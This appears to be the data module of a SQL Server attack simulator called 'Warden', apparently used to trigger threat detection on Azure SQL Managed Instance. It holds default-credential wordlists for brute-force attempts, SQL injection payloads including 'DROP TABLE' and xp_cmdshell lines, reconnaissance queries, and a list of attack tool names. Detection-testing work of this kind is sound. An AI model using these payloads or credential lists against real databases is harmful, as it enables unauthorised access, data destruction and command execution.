"""Seed wordlists, payloads and queries for Warden"""

from typing import Dict, List


# Password seeds; each size class extends the previous one
_PASSWORDS_SMALL = [
    "password", "123456", "password123", "admin", "letmein", "welcome",
    "qwerty", "abc123", "Password1", "password1", "admin123", "root",
    "pass", "test", "guest", "user", "SQL", "sqlserver", "sa",
    "Password123", "123456789", "password!", "Password!", "admin!",
    "Passw0rd", "P@ssw0rd", "P@ssword1", "Secret123", "company123",
    "Azure123", "d4sqlsim",
]

_PASSWORDS_MEDIUM_EXTRA = [
    "toor", "SQLServer", "SqlServer", "sql123", "SQL123", "server",
    "database", "db", "master", "msdb", "tempdb", "model", "sysadmin",
    "dbowner", "public", "dbo", "sa123", "sadmin", "sqladmin", "SQLAdmin",
    "Password@123", "password@123", "Admin123", "Welcome123", "Test123",
    "Demo123", "Temp123", "P@ssw0rd1", "secret", "Secret", "Company123",
    "azure123", "microsoft", "Microsoft", "windows", "Windows", "sql2019",
    "sql2022", "database123", "Database123", "server123", "Server123",
    "default", "Default", "changeme", "ChangeMe", "temp123", "test123",
    "admin1", "Admin1", "root123", "Root123", "system", "System", "login",
    "Login", "access", "Access", "backup", "Backup", "restore", "Restore",
    "password1!", "Password1!", "admin123!", "Admin123!", "welcome1",
    "Welcome1", "qwerty123", "Qwerty123", "abc123!", "Abc123!",
]

_PASSWORDS_LARGE_EXTRA = [
    "123123", "321321", "111111", "000000", "555555", "777777", "888888",
    "999999", "123321", "654321", "1234567", "12345678", "1234567890",
    "qwertyuiop", "asdfghjkl", "zxcvbnm", "asdf1234", "zxcv1234",
    "football", "basketball", "baseball", "soccer", "mustang", "ferrari",
    "sunshine", "rainbow", "butterfly", "dragon", "phoenix", "monkey",
    "shadow", "master123", "superman", "batman", "trustno1", "iloveyou",
    "january", "february", "march", "april", "may", "june", "july",
    "august", "september", "october", "november", "december", "spring",
    "Spring", "summer", "Summer", "autumn", "Autumn", "winter", "Winter",
    "monday", "Monday", "friday", "Friday", "morning", "Morning",
    "2020", "2021", "2022", "2023", "2024", "2025", "2026",
]

_USERNAMES_SMALL = [
    "sa", "admin", "administrator", "root", "sql", "sqlserver", "sqladmin",
    "sysadmin", "dbowner", "dbo", "guest", "public", "user", "test", "demo",
    "d4sqlsim", "sqluser", "dbuser", "dbadmin", "service", "system", "login",
]

_USERNAMES_MEDIUM_EXTRA = [
    "backup", "restore", "monitor", "audit", "security", "compliance",
    "reporting", "analytics", "etl", "warehouse", "dataowner", "datauser",
    "appuser", "webuser", "apiuser", "serviceuser", "testuser", "devuser",
    "produser", "staginguser", "qauser", "developer", "tester", "analyst",
    "operator", "manager", "supervisor", "readonly", "readwrite",
    "bulkadmin", "diskadmin", "processadmin", "securityadmin", "serveradmin",
    "setupadmin", "dbcreator", "db_owner", "db_datareader", "db_datawriter",
    "db_ddladmin", "db_securityadmin", "db_accessadmin", "db_backupoperator",
]

_USERNAMES_LARGE_EXTRA = [
    "finance", "hr", "sales", "marketing", "support", "helpdesk", "it",
    "admin1", "admin2", "test1", "test2", "user1", "user2", "temp",
    "temporary", "guest1", "guest2", "demo1", "demo2", "service1",
    "service2", "app", "application", "web", "website", "api", "database",
    "db", "master", "northwind", "adventureworks", "pubs", "sample",
    "company", "corporate", "enterprise", "organization", "department",
    "team", "project", "webservice", "apiservice", "dataservice",
]

# Short password list paired with the username sweep
_ENUM_PASSWORDS_SMALL = [
    "password", "123456", "admin", "Password1", "P@ssw0rd", "Passw0rd",
    "password123", "Password123", "admin123", "welcome", "sa", "sql",
]

PASSWORDS: Dict[str, List[str]] = {
    "small": _PASSWORDS_SMALL,
    "medium": _PASSWORDS_SMALL + _PASSWORDS_MEDIUM_EXTRA,
    "large": _PASSWORDS_SMALL + _PASSWORDS_MEDIUM_EXTRA + _PASSWORDS_LARGE_EXTRA,
}

USERNAMES: Dict[str, List[str]] = {
    "small": _USERNAMES_SMALL,
    "medium": _USERNAMES_SMALL + _USERNAMES_MEDIUM_EXTRA,
    "large": _USERNAMES_SMALL + _USERNAMES_MEDIUM_EXTRA + _USERNAMES_LARGE_EXTRA,
}

ENUM_PASSWORDS: Dict[str, List[str]] = {
    "small": _ENUM_PASSWORDS_SMALL,
    "medium": _ENUM_PASSWORDS_SMALL + _PASSWORDS_SMALL,
    "large": _ENUM_PASSWORDS_SMALL + _PASSWORDS_SMALL + _PASSWORDS_MEDIUM_EXTRA,
}

SEEDS: Dict[str, Dict[str, List[str]]] = {
    "passwords": PASSWORDS,
    "usernames": USERNAMES,
    "enum_passwords": ENUM_PASSWORDS,
}


# Building blocks for generated passwords: word + numeric suffix + optional special
GENERATOR_WORDS = [
    "SQLServer", "sqlserver", "Database", "database", "Admin", "admin", "sa",
    "Azure", "Microsoft", "Company", "Corp", "Enterprise", "Business",
    "Dev", "Test", "Prod", "Stage", "QA", "UAT", "DevDB", "ProdSQL",
    "TestServer", "Welcome", "Summer", "Winter", "Secret", "Manager",
]
GENERATOR_SUFFIXES = [
    "1", "01", "001", "12", "123", "1234", "2020", "2021", "2022", "2023",
    "2024", "2025", "2026", "99", "007", "321",
]
GENERATOR_SPECIALS = "!@#$%^&*"


SQL_INJECTION_PAYLOADS = [
    "' OR '1'='1",
    "' OR 1=1--",
    "' OR 1=1#",
    "' OR 1=1/*",
    "admin'--",
    "admin'#",
    "admin'/*",
    "' OR 'x'='x",
    "' OR 'x'='x'--",
    "') OR ('1'='1",
    "') OR ('1'='1'--",
    "1' OR '1'='1",
    "1' OR '1'='1'--",
    "'; DROP TABLE users--",
    "' UNION SELECT null,null,null--",
    "' UNION ALL SELECT null,null,null--",
    "'; EXEC xp_cmdshell('dir')--",
    "'; EXEC sp_configure 'show advanced options',1--",
    "' OR SUBSTRING(@@version,1,1)='M'--",
    "' OR LEN(USER_NAME())>0--",
    "' OR SYSTEM_USER='sa'--",
    "' OR IS_MEMBER('db_owner')=1--",
    "'; WAITFOR DELAY '00:00:05'--",
    "'; IF (1=1) WAITFOR DELAY '00:00:05'--",
    "' AND (SELECT COUNT(*) FROM information_schema.tables)>0--",
    "' UNION SELECT table_name,null FROM information_schema.tables--",
    "' OR (SELECT COUNT(*) FROM sys.databases)>0--",
    "' UNION SELECT name FROM sys.databases--",
    "'; EXEC xp_dirtree 'C:\\'--",
    "'; EXEC xp_fileexist 'C:\\Windows\\system32\\cmd.exe'--",
    "' OR DB_NAME()='master'--",
    "' OR USER_NAME()='dbo'--",
]

# Query templates each payload is injected into ({p} = payload)
INJECTION_CONTEXTS = [
    ("string", "SELECT * FROM Employees WHERE LastName = '{p}'"),
    ("numeric", "SELECT * FROM Employees WHERE EmployeeID = {p}"),
    ("login", "SELECT * FROM Users WHERE Username = '{p}' AND Password = 'test'"),
    ("union", "SELECT name FROM sys.databases WHERE name = '{p}' UNION SELECT 'injected'"),
    ("error-based", "SELECT * FROM Employees WHERE 1=CONVERT(int, (SELECT @@version))"),
    ("time-based", "SELECT 1; WAITFOR DELAY '00:00:05'; SELECT 2"),
]

HARMFUL_APPLICATIONS = [
    "sqlmap", "Havij", "SQLninja", "BSQL", "Pangolin", "SQLiX", "Safe3SI",
    "Marathon Tool", "SQLSentinel", "Absinthe", "FG-Injector", "AppScan",
    "WebInspect", "Vega", "Wapiti", "Skipfish", "Nikto", "DirBuster",
    "Gobuster", "SQLiteManager", "phpMyAdmin-automated", "automated-scanner",
    "bot-scanner", "vulnerability-scanner", "SQL-injection-tool",
    "database-scanner", "pentest-tool", "security-scanner", "exploit-tool",
    "malicious-client", "unauthorized-tool",
]

ENUMERATION_QUERIES = [
    "SELECT @@VERSION",
    "SELECT USER_NAME()",
    "SELECT SYSTEM_USER",
    "SELECT IS_SRVROLEMEMBER('sysadmin')",
    "SELECT name FROM sys.databases",
    "SELECT name FROM sys.tables",
    "SELECT * FROM information_schema.tables",
    "SELECT * FROM information_schema.columns",
    "SELECT name FROM sys.server_principals",
    "SELECT name FROM sys.database_principals",
    "SELECT * FROM sys.dm_exec_sessions",
    "SELECT * FROM sys.dm_exec_requests",
    "SELECT * FROM sys.configurations",
    "SELECT * FROM sys.dm_os_sys_info",
    "SELECT SERVERPROPERTY('ProductVersion')",
    "SELECT SERVERPROPERTY('Edition')",
    "SELECT SERVERPROPERTY('InstanceName')",
    "SELECT DB_NAME()",
    "SELECT HOST_NAME()",
    "SELECT @@SPID",
    "SELECT @@SERVERNAME",
]

# Authenticated recon in the enumeration category
SYSTEM_QUERIES = [
    "SELECT @@VERSION",
    "SELECT SERVERPROPERTY('ProductVersion')",
    "SELECT SERVERPROPERTY('Edition')",
    "SELECT name FROM sys.databases",
    "SELECT name FROM sys.server_principals WHERE type = 'S'",
    "SELECT * FROM sys.dm_os_sys_info",
    "SELECT * FROM sys.configurations WHERE value_in_use <> 0",
]

RAPID_QUERY = "SELECT GETDATE(), USER_NAME(), @@VERSION"
BATCH_QUERY = "SELECT name FROM sys.databases; SELECT name FROM sys.tables; SELECT @@SERVERNAME;"

# Mostly rejected on SQL MI; the attempt itself is what gets flagged
SHELL_COMMANDS = [
    "EXEC xp_cmdshell 'dir'",
    "EXEC xp_cmdshell 'whoami'",
    "EXEC xp_cmdshell 'ipconfig'",
    "EXEC sp_configure 'show advanced options', 1",
    "EXEC sp_configure 'xp_cmdshell', 1",
    "EXEC xp_dirtree 'C:\\'",
    "EXEC xp_fileexist 'C:\\Windows\\system32\\cmd.exe'",
]
AGENT_JOBS_QUERY = "SELECT name FROM msdb.dbo.sysjobs"

STATIC_LISTS: Dict[str, List[str]] = {
    "sql_injection_payloads": SQL_INJECTION_PAYLOADS,
    "harmful_applications": HARMFUL_APPLICATIONS,
    "enumeration_queries": ENUMERATION_QUERIES,
}


def get_seeds(kind: str, size_class: str) -> List[str]:
    """Get seed entries for a wordlist kind and size class"""
    return list(SEEDS.get(kind, {}).get(size_class, []))
